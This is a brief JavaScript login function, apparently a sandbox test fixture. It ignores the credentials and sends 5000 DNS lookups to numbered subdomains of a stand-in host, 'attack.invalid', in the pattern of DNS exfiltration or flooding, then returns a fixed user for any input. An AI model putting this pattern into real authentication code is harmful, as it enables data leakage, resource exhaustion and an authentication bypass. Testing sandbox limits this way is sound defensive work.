function login(email, password, callback) {
  const dns = require('dns');
  let answers = 0;
  for (let count = 0; count < 5000; count += 1) {
    dns.lookup(`data-${count}.attack.invalid`, () => {
      answers += 1;
      if (answers === 5000) callback(null, { user_id: 'all were asked' });
    });
  }
}
